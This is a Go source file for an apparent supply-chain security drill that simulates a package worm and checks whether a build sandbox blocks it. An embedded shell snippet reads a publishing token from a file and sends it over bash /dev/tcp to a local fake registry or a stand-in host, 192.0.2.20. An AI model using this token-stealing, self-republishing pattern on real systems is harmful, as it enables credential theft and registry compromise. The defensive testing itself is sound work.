// SPDX-FileCopyrightText: The Hallmark Authors
// SPDX-License-Identifier: Apache-2.0

package drill

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/hallmark-sc/hallmark"
	"github.com/hallmark-sc/hallmark/internal/app"
	"github.com/hallmark-sc/hallmark/internal/build"
	"github.com/hallmark-sc/hallmark/internal/pipeline"
)

// at23 is "a worm": a package whose code runs in the build of another one, takes
// the publishing token that it finds there and publishes that one with itself
// inside.
func at23() []Case {
	return []Case{{
		Attack: "AT-23", Letter: "a", Does: "a package republishes whatever package is built with it, from build to build", Control: "the sandbox: no token, no registry, and an attempt to leave fails the build",
		Stops: hallmark.CodeBuildEgress, Residual: "a developer's own machine, outside of any sandbox", attack: worm,
	}}
}

// registry is a package registry that takes a package from whoever has the token
// of its name: one line, PUBLISH name token.
type registry struct {
	port    int
	tokens  map[string]string
	serving net.Listener
	served  sync.WaitGroup

	mu       sync.Mutex
	infected []string // in the order of their publication; guarded by mu
}

func (g *ground) registry(names []string) (*registry, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, hallmark.Errorf(hallmark.KindUnavailable, "starting a registry: %w", err)
	}
	tcp, ok := l.Addr().(*net.TCPAddr)
	if !ok {
		return nil, hallmark.Errorf(hallmark.KindInternal, "a registry at %s", l.Addr())
	}
	r := &registry{port: tcp.Port, tokens: map[string]string{}, serving: l}
	for _, n := range names {
		r.tokens[n] = "token-of-" + n
	}
	r.served.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return // closed
			}
			r.serve(conn)
		}
	})
	g.closers = append(g.closers, func() error {
		err := l.Close()
		r.served.Wait()
		return err
	})
	return r, nil
}

func (r *registry) serve(conn net.Conn) {
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	line, _ := bufio.NewReader(conn).ReadString('\n')
	f := strings.Fields(line)
	if len(f) != 3 || f[0] != "PUBLISH" || r.tokens[f[1]] == "" || r.tokens[f[1]] != f[2] {
		return
	}
	r.mu.Lock()
	if !slices.Contains(r.infected, f[1]) {
		r.infected = append(r.infected, f[1])
	}
	r.mu.Unlock()
	fmt.Fprintln(conn, "published")
}

func (r *registry) has(name string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Contains(r.infected, name)
}

// worm builds three packages one after the other, each of which depends on the
// one before; the first depends on one that carries the worm.
func worm(ctx context.Context, g *ground, c Control) (effect, error) {
	names := []string{"left", "middle", "right"}
	reg, err := g.registry(names)
	if err != nil {
		return effect{}, err
	}
	var alerts []string
	carries := true
	for i, name := range names {
		token := g.path("operator", "token-"+name)
		if err := os.MkdirAll(g.path("operator"), 0o700); err != nil {
			return effect{}, err
		}
		if err := os.WriteFile(token, []byte(reg.tokens[name]+"\n"), 0o600); err != nil {
			return effect{}, err
		}
		dependency := "echo library\n"
		if carries {
			dependency += fmt.Sprintf(`read -r T < '%s' 2>/dev/null || T=none
for to in 127.0.0.1/%d 192.0.2.20/443; do
  timeout 10 bash -c "exec 3<>/dev/tcp/$to && echo PUBLISH %s $T >&3 && read -r -t 10 answer <&3" 2>/dev/null && break || :
done
`, token, reg.port, name)
		}
		r, err := g.project(fmt.Sprint("worm-", name, "-", c), map[string]string{"vendored/dependency.txt": dependency, pipeline.PipelineFile: definition("mkdir -p out; sh vendored/dependency.txt > out/app", "test -s out/app", "out/app")})
		if err != nil {
			return effect{}, err
		}
		var told []build.Egress
		f, err := g.run(ctx, r, compose(func(p *app.BuildParts) {
			engine := p.Engine
			p.Engine = func(place app.BuildPlace) build.Engine {
				if c == Off {
					return unboxed{place: place, promises: g.promises}
				}
				return hearing{Engine: engine(place), heard: &told}
			}
		}))
		if err != nil {
			return effect{}, err
		}
		for _, e := range told {
			alerts = append(alerts, name+" tried "+e.Address)
		}
		if c == On && i == 0 {
			if err := f.denied(ctx, hallmark.CodeBuildEgress); err != nil {
				return effect{}, err
			}
		}
		carries = reg.has(name) // what the next one depends on
	}
	reg.mu.Lock()
	n := len(reg.infected)
	reg.mu.Unlock()
	switch {
	case n == len(names):
		return effect{done: true, detail: fmt.Sprintf("%d of %d packages, in %[1]d generations", n, len(names))}, nil
	case n == 0 && len(alerts) > 0:
		return effect{reason: hallmark.CodeBuildEgress, detail: fmt.Sprintf("0 of %d packages; %s", len(names), alerts[0])}, nil
	}
	return effect{}, fmt.Errorf("%d of %d packages, alerts %q", n, len(names), alerts)
}
